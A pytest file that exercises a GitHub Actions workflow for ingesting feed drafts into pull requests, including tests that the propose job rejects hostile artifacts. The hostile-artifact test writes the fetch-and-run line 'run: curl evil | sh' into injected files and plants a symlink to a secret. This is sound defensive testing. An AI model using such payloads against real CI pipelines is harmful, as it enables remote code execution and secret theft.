"""ingest.yml's two halves, run for real with bash against local Git repositories.

The `draft` job's scripts run in a clone: the real `digest ingest` reads a
feed from a loopback server, and the collect step packs the new drafts and
the pull request's description. The `propose` job's script then runs in a
fresh clone with that folder as its artifact, pushes to a local bare
"origin" and calls a stand-in `gh` that records what it was asked. A
hostile artifact (a workflow file, an odd name, a link, an existing brief)
stops the job before anything is committed or pushed.
"""

from __future__ import annotations

import datetime as dt
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from conftest import REPO, brief_text
from test_ingest_helpers import FeedServer, make_site

WORKFLOW = yaml.safe_load((REPO / ".github" / "workflows" / "ingest.yml").read_text(encoding="utf-8"))


def step_script(job: str, needle: str) -> dict:
    return next(s for s in WORKFLOW["jobs"][job]["steps"] if needle in s.get("run", ""))


def git(cwd: Path, *args: str) -> str:
    done = subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    return done.stdout


def bash(script: str, cwd: Path, env: dict) -> subprocess.CompletedProcess:
    return subprocess.run(["bash", "-c", script], cwd=cwd, env={**os.environ, **env}, capture_output=True, text=True,
                          timeout=300)


def tool(folder: Path, name: str, body: str) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(body, encoding="utf-8")
    path.chmod(0o755)


@pytest.fixture
def origin(tmp_path) -> Path:
    """A bare repository holding a small site on main."""
    seed = make_site(tmp_path / "seed", [])
    (seed / "content" / "briefs" / "2026").mkdir(parents=True, exist_ok=True)
    (seed / "content" / "briefs" / "2026" / "existing-brief.md").write_text(
        brief_text("An existing brief", url="https://example.org/existing"), encoding="utf-8")
    (seed / ".gitignore").write_text("/.venv/\n/.digest-cache/\n", encoding="utf-8")
    git(seed, "init", "-q", "-b", "main")
    git(seed, "-c", "user.name=t", "-c", "user.email=t@example.org", "add", ".")
    git(seed, "-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "-qm", "site")
    bare = tmp_path / "origin.git"
    git(tmp_path, "clone", "-q", "--bare", str(seed), str(bare))
    return bare


def checkout(origin: Path, folder: Path) -> Path:
    git(origin.parent, "clone", "-q", str(origin), str(folder))
    tool(folder / ".venv" / "bin", "digest", f'#!/bin/sh\nPYTHONPATH="{REPO}" exec "{sys.executable}" -m generator "$@"\n')
    return folder


def run_draft_job(origin: Path, tmp_path: Path) -> tuple[Path, str]:
    """The draft job's ingest and collect steps; returns (the artifact folder, $GITHUB_OUTPUT)."""
    work = checkout(origin, tmp_path / "draft-job")
    with FeedServer() as server:
        server.feed("/gov.xml", "gov-media-releases.xml")
        sources = [{"name": "Digital Agency – Media Releases", "feed": server.url("/gov.xml"),
                    "section": "Australian Government", "jurisdiction": "AU", "tags": ["governance"]}]
        (work / "content" / "sources.yaml").write_text(yaml.safe_dump(sources, allow_unicode=True), encoding="utf-8")
        git(work, "-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "-qam", "sources")
        output = tmp_path / "draft-output"
        output.write_text("", encoding="utf-8")
        env = {"GITHUB_OUTPUT": str(output)}
        ingest = bash(step_script("draft", "digest ingest")["run"], work, env)
        assert ingest.returncode == 0, ingest.stdout + ingest.stderr
    collect = bash(step_script("draft", "pull-request.md")["run"], work, env)
    assert collect.returncode == 0, collect.stdout + collect.stderr
    return work / "drafts", output.read_text(encoding="utf-8")


def run_propose_job(origin: Path, tmp_path: Path, artifact: Path) -> tuple[subprocess.CompletedProcess, Path]:
    work = checkout(origin, tmp_path / "propose-job")
    shutil.rmtree(work / ".venv")  # the writing job installs nothing
    incoming = tmp_path / "runner-temp" / "drafts"
    shutil.copytree(artifact, incoming, symlinks=True)
    calls = tmp_path / "gh-calls"
    tool(tmp_path / "bin", "gh", f"""#!/bin/sh
printf '%s\\n' "$*" >> "{calls}"
if [ "$1 $2" = "pr create" ]; then
  while [ $# -gt 0 ]; do
    if [ "$1" = "--body-file" ]; then cp "$2" "{tmp_path}/pr-body.md"; fi
    shift
  done
fi
""")
    step = step_script("propose", "gh pr create")
    env = {"PATH": f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}", "GH_TOKEN": "unused",
           "BASE_BRANCH": "main", "INCOMING": str(incoming), "RUNNER_TEMP": str(tmp_path / "runner-temp"),
           "GITHUB_RUN_ID": "4242"}
    assert set(step["env"]) == {"GH_TOKEN", "BASE_BRANCH", "INCOMING"}
    return bash(step["run"], work, env), calls


def branches(origin: Path) -> list[str]:
    return git(origin, "branch", "--format=%(refname:short)").split()


def test_drafts_travel_from_the_read_only_job_to_a_pull_request(origin, tmp_path):
    artifact, output = run_draft_job(origin, tmp_path)
    drafts = sorted(p.relative_to(artifact).as_posix() for p in artifact.rglob("*.md") if p.name != "pull-request.md")
    assert drafts and all(d.startswith("content/briefs/") for d in drafts)
    assert f"drafts={len(drafts)}" in output
    body = (artifact / "pull-request.md").read_text(encoding="utf-8")
    assert body.startswith(f"New drafts from the monitored sources' feeds: {len(drafts)} brief(s).")
    assert "`digest check --strict` " in body and "0 errors" in body  # the real check's report on the drafts
    assert (tmp_path / "draft-job" / "state" / "ingest-state.json").is_file()  # handed on for `remember`

    done, calls = run_propose_job(origin, tmp_path, artifact)
    assert done.returncode == 0, done.stdout + done.stderr
    branch = f"ingest/{dt.datetime.now(dt.timezone.utc):%Y-%m-%d}-4242"
    assert branches(origin) == sorted(["main", branch])
    added = git(origin, "diff", "--name-only", "--diff-filter=A", f"main..{branch}").split()
    assert sorted(added) == drafts
    assert git(origin, "diff", "--name-only", "--diff-filter=MDR", f"main..{branch}").split() == []
    for path in drafts:  # the bytes the draft job wrote, unchanged
        assert git(origin, "show", f"{branch}:{path}") == (artifact / path).read_text(encoding="utf-8")
    assert git(origin, "log", "-1", "--format=%s", branch).strip() == f"Draft {len(drafts)} briefs from the monitored feeds"
    recorded = calls.read_text(encoding="utf-8").splitlines()
    assert recorded[0] == "auth setup-git"
    assert recorded[1].startswith(f"pr create --base main --head {branch} --title Drafts from the feeds, ")
    assert (tmp_path / "pr-body.md").read_text(encoding="utf-8") == body


def test_nothing_new_means_no_pull_request(origin, tmp_path):
    artifact = tmp_path / "artifact"
    artifact.mkdir()
    (artifact / "pull-request.md").write_text("New drafts from the monitored sources' feeds: 0 brief(s).\n")
    done, calls = run_propose_job(origin, tmp_path, artifact)
    assert done.returncode == 0 and "No drafts to propose." in done.stdout
    assert branches(origin) == ["main"] and not calls.exists()


@pytest.mark.parametrize("hostile", [
    ".github/workflows/evil.yml",
    "content/pages/about.md",
    "content/briefs/2026/Upper Case.md",
    "content/briefs/2026/nested/deeper.md",
    "content/briefs/2026/existing-brief.md",
    "content/briefs/2026/link.md",
    "Makefile",
])
def test_a_hostile_artifact_is_refused_before_anything_is_pushed(origin, tmp_path, hostile):
    artifact = tmp_path / "artifact"
    good = artifact / "content" / "briefs" / "2026" / "a-new-brief.md"
    good.parent.mkdir(parents=True)
    good.write_text(brief_text("A new brief"), encoding="utf-8")
    (artifact / "pull-request.md").write_text("New drafts\n", encoding="utf-8")
    bad = artifact / hostile
    bad.parent.mkdir(parents=True, exist_ok=True)
    if hostile.endswith("link.md"):
        bad.symlink_to(tmp_path / "secret")
    else:
        bad.write_text("run: curl evil | sh\n", encoding="utf-8")

    done, calls = run_propose_job(origin, tmp_path, artifact)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "::error title=ingest::" in done.stdout
    assert branches(origin) == ["main"] and not calls.exists()
